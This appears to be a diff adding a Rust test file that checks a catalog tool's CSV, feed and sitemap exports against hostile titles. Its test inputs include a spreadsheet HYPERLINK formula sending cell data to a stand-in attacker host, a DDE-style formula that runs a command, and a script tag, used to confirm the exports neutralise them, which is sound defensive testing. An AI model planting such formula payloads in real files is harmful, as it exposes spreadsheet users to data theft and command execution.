@@ -1,0 +1,103 @@
+//! The machine-readable exports survive hostile titles: catalog.csv opens in a spreadsheet
+//! without running a formula, and feed.xml and sitemap.xml parse as XML and give back
+//! every title exactly.
+
+mod common;
+
+use common::{catalog, copcat, fixtures};
+use quick_xml::events::Event;
+
+const TITLES: &[&str] = &[
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "Escaping <script>alert(\"t\")</script> & 'quotes'",
+];
+
+fn built() -> tempfile::TempDir {
+    let dir = catalog("base", &[&fixtures().join("exports")]);
+    let run = copcat(&["build"], dir.path());
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    dir
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+    let dir = built();
+    let mut reader = csv::Reader::from_path(dir.path().join("public/catalog.csv")).unwrap();
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|field| field == name).unwrap();
+    let (title, summary) = (column("title"), column("summary"));
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert!(rows.len() >= 7, "every published entry is a row");
+    for row in &rows {
+        for cell in [&row[title], &row[summary]] {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+    let titles: Vec<&str> = rows.iter().map(|row| &row[title]).collect();
+    for expected in TITLES {
+        let shown = if expected.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            format!("'{expected}")
+        } else {
+            expected.to_string()
+        };
+        assert!(titles.contains(&shown.as_str()), "{shown:?} not in {titles:?}");
+    }
+    let summaries: Vec<&str> = rows.iter().map(|row| &row[summary]).collect();
+    assert!(summaries.contains(&"'-2+3, with a comma, \"quotes\"\nand a line break & <angle> brackets"));
+}
+
+/// The text of every `<title>` in an XML document, failing on anything not well-formed.
+fn xml_titles(xml: &str) -> Vec<String> {
+    let mut reader = quick_xml::Reader::from_str(xml);
+    reader.config_mut().check_end_names = true;
+    let (mut titles, mut in_title) = (Vec::new(), false);
+    loop {
+        match reader.read_event().unwrap_or_else(|error| panic!("not well-formed XML: {error}\n{xml}")) {
+            Event::Start(tag) if tag.name().as_ref() == "title" => {
+                in_title = true;
+                titles.push(String::new());
+            }
+            Event::End(tag) if tag.name().as_ref() == "title" => in_title = false,
+            Event::Text(text) if in_title => {
+                titles.last_mut().unwrap().push_str(&text.xml10_content());
+            }
+            Event::GeneralRef(reference) if in_title => {
+                let name = reference.xml10_content();
+                let character = reference.resolve_char_ref().unwrap().map(String::from);
+                let resolved =
+                    character.or_else(|| quick_xml::escape::resolve_xml_entity(&name).map(String::from));
+                titles
+                    .last_mut()
+                    .unwrap()
+                    .push_str(&resolved.unwrap_or_else(|| panic!("unknown entity &{name};")));
+            }
+            Event::Eof => break,
+            _ => {}
+        }
+    }
+    titles
+}
+
+#[test]
+fn feed_and_sitemap_are_well_formed_and_titles_round_trip() {
+    let dir = built();
+    let feed = std::fs::read_to_string(dir.path().join("public/feed.xml")).unwrap();
+    let titles = xml_titles(&feed);
+    for expected in TITLES {
+        assert!(titles.iter().any(|title| title == expected), "{expected:?} not in {titles:?}");
+    }
+    let sitemap = std::fs::read_to_string(dir.path().join("public/sitemap.xml")).unwrap();
+    xml_titles(&sitemap);
+    assert!(sitemap.contains("<loc>https://example.org/cop/roles/formulas/</loc>"));
+}
+
+#[test]
+fn invisible_control_characters_stop_the_build_before_any_export() {
+    let dir = catalog("base", &[&fixtures().join("invalid/control-characters")]);
+    let run = copcat(&["build"], dir.path());
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(run.stderr.contains("\"title\" contains the invisible character \\u{0001}"), "{}", run.stderr);
+    assert!(!dir.path().join("public").exists(), "nothing is published");
+}
